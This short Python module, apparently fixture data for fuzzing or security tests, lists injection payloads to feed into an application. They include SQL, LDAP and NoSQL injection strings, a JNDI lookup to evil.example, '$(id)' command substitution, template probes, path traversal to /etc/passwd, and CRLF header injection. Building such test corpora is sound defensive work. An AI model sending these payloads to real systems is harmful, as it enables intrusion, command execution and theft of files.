"""Texts that have opened other people's servers."""

QUERIES = (
    "' OR '1'='1",
    "'; DROP TABLE clients; --",
    '" OR ""="',
    "1 UNION SELECT metadata FROM clients",
    "x' AND (SELECT count(*) FROM clients) > 0 --",
    "?",
    ":key",
    "*)(uid=*))(|(uid=*",
    "(&(objectClass=*))",
    "*",
    '{"$gt": ""}',
    "[$ne]=1",
    "$where",
    "_all_docs",
)
FORMATS = ("%s%s%n%x", "{0.__class__.__mro__}", "{}", "${jndi:ldap://evil.example/a}", "{{7*7}}", "$(id)", "`id`", "__proto__")
PATHS = ("../../../../etc/passwd", "..\\..\\keyring.json", "....//....//", "file:///etc/passwd", "/etc/passwd", ".", "..", "~", "%2e%2e%2f")
BYTES = ("a\0b", "\0", "a\r\nSet-Cookie: a=b", "\x1b[2J", "\x7f", "\u202e", "\u2028", "é", "\U0001f600", "\ufeff", " ", "\t")
SIZES = ("a" * 600, "0" * 1500, "é" * 600, "-1", "1e400", "NaN", "null", "true", "[]", "{}", "http://evil.example/")

PAYLOADS = (*QUERIES, *FORMATS, *PATHS, *BYTES, *SIZES)
